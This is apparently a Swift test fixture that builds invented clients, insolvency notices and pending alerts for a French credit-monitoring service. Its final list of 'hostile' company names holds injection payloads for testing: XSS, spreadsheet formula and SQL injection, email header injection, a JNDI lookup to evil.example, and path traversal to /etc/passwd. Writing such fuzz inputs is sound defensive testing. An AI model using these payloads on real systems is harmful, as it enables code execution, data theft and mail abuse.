package import VigieDomain
package import VigieEngine

/// Alerts about an invented client (its SIREN is valid), for tests of wording and delivery.
package enum SampleAlerts {
    package static let now = moment("2026-10-06T05:00:00Z")
    /// Paris in winter, which is near enough where no test looks at summer.
    package static let paris = CivilZone(name: "Europe/Paris") { _ in 3_600 }
    package static let company = key("siren:732829320")
    package static let credit = person("Claire Martin", "claire.martin@fournisseur.example")
    package static let manager = person("Éric Noël", "eric.noel@fournisseur.example")

    package static func day(_ iso: String) -> Day {
        guard let day = Day(iso) else { preconditionFailure("\(iso) is not a day") }
        return day
    }

    package static func moment(_ iso: String) -> Instant {
        guard let moment = Instant(iso) else { preconditionFailure("\(iso) is not an instant") }
        return moment
    }

    package static func key(_ text: String) -> CompanyKey {
        guard let key = CompanyKey(text) else { preconditionFailure("\(text) is not a company key") }
        return key
    }

    package static func person(_ name: String?, _ address: String) -> Person {
        guard let email = EmailAddress(address) else { preconditionFailure("\(address) is not an address") }
        return Person(name: name, email: email)
    }

    package static func client(named name: String = "DUPONT SA", code: String? = "C0123") -> Client {
        Client(
            key: company, name: name, postcode: "69003",
            accounts: [
                Account(
                    code: code, portfolio: "nord", manager: manager, creditManager: credit,
                    exposure: Exposure(
                        limit: Amount(cents: 4_000_000), outstanding: Amount(cents: 4_820_000),
                        outstandingDate: day("2026-09-30"), overdue: Amount(cents: 1_235_050),
                        openOrders: Amount(cents: 600_000), deposits: Amount(cents: 150_000),
                        cover: Amount(cents: 3_000_000), coverUntil: day("2026-12-31"), insurer: "Assureur Exemple",
                        policy: "P-778"))
            ])
    }

    package static func deadline(
        _ right: Right = .claimDeclaration, from start: String = "2026-09-15", months: Int = 2
    ) -> Deadline {
        Deadline(
            right: right, period: .months(months), articles: "L622-24, R622-24, L641-3 C. com.", start: day(start),
            workingDays: WorkingDays { _ in false })
    }

    /// The opening of a liquidation, whole.
    package static func liquidation(details edit: (inout ChangeDetails) -> Void = { _ in }) -> Change {
        var details = ChangeDetails(
            deadlines: [deadline()],
            addressee: Addressee(
                role: "liquidateur", name: "SELARL Exemple Justice, Me Anne Durand",
                address: "12 rue des Lilas, 69003 Lyon"),
            cessation: day("2026-03-01"), court: "Tribunal des activités économiques de Lyon",
            text:
                "Jugement prononçant la liquidation judiciaire, date de cessation des paiements le 1er mars 2026, désignant liquidateur SELARL Exemple Justice, Me Anne Durand, 12 rue des Lilas, 69003 Lyon.\nLes créances sont à déclarer, dans les deux mois de la présente publication, auprès du liquidateur ou sur le portail électronique.",
            link: "https://www.bodacc.fr/pages/annonces-commerciales-detail/?q.id=id:A202601791234",
            why: "Jugement prononçant la liquidation judiciaire")
        edit(&details)
        return change(
            .procOpenLiquidation, before: .state(.none), after: .state(.liquidation), details: details,
            judgment: day("2026-09-03"), publication: day("2026-09-15"),
            notice: NoticeID(text: "bodacc:A202601791234"), role: .debtor)
    }

    package static func change(
        _ code: EventCode, before: ChangeValue? = nil, after: ChangeValue? = nil,
        details: ChangeDetails = ChangeDetails(), severity: Severity? = nil, company: CompanyKey = company,
        judgment: Day? = nil, publication: Day? = nil, notice: NoticeID? = nil, role: NoticeRole? = nil
    ) -> Change {
        Change(
            id: ChangeID(company: company, code: code, fact: [notice?.text ?? "fact"]), company: company, code: code,
            severity: severity ?? code.severity, case: CaseID(company: company, facet: code.facet), before: before,
            after: after, effective: nil, judgment: judgment, publication: publication,
            detected: moment("2026-09-15T05:30:00Z"),
            provenance: Provenance(
                source: SourceID("bodacc"), url: "https://bodacc-datadila.opendatasoft.com/api",
                fetched: moment("2026-09-15T05:29:58Z"),
                evidence: EvidenceID(digest: Digest(of: ["evidence"]).hexadecimal)), notice: notice, role: role,
            details: details)
    }

    package static func pending(
        _ change: Change = liquidation(), client: Client? = client(), recipient: Recipient = .person(credit),
        others: [Recipient] = [.person(manager), .endpoint("erp")], sequence: Int64 = 42,
        reason: String = "événement critique : responsable crédit du client", cadence: Cadence = .atOnce
    ) -> PendingAlert {
        PendingAlert(
            alert: Alert(
                change: change.id, company: change.company, recipient: recipient, cadence: cadence, reason: reason,
                due: now), change: RecordedChange(change: change, sequence: sequence), client: client, others: others)
    }

    /// Names as an attacker, an accident or a far country may write them, each in several surroundings.
    package static let hostileNames: [String] = {
        let seeds = [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=cmd|' /C calc'!A0",
            "\"; DROP TABLE clients; --",
            "DUPONT\r\nBcc: victim@evil.example", "DUPONT\nSubject: faux", "DUPONT\r\n\r\n<html>", "DUPONT\0SA",
            "\u{202E}AS TNOPUD\u{202C}", "\u{2066}DUPONT\u{2069}", "\u{2067}DU\u{2068}PONT", "DU\u{200B}PO\u{200D}NT",
            "\u{FEFF}DUPONT", "DUPО\u{041D}T", "{{7*7}} ${jndi:ldap://evil.example/a}", "<!channel> @everyone",
            "[DUPONT](https://evil.example)", "\u{1B}[31mDUPONT\u{1B}[0m", "🏭🔥 DUPONT", "שלום DUPONT", "شركة دوبون",
            "--=_vigie_boundary--", "=?UTF-8?B?QmNjOg==?=", "DUPONT\u{2028}SA\u{2029}X", "DUPONT\u{85}SA",
            "&amp;&lt;b&gt;",
            "' onmouseover='x", "\" style=\"x", "../../etc/passwd", "%0d%0aBcc:x", "DUPONT\u{AD}SA", "O'Neill & Fils",
            String(repeating: "Z", count: 10_000), "Z" + String(repeating: "\u{0301}", count: 2_000),
            "\u{E0041}\u{E007F}",
            ".", "From DUPONT", "\t\t DUPONT \t", "", " ", "株式会社デュポン", "ﷺ", "A\u{0300}\u{0301}\u{0302}B",
        ]
        let frames: [(String, String)] = [
            ("", ""), ("SARL ", ""), ("", " SA"), ("« ", " »"), ("\u{202B}", ""), ("", "\r\n"), ("(", ")"),
            ("\u{7}", "\u{7F}"),
            ("É", "é"), ("<b>", "</b>"), ("\u{061C}", "\u{200F}"), ("🚫", "\u{FE0F}"),
        ]
        return seeds.flatMap { seed in frames.map { $0.0 + seed + $0.1 } }
    }()
}
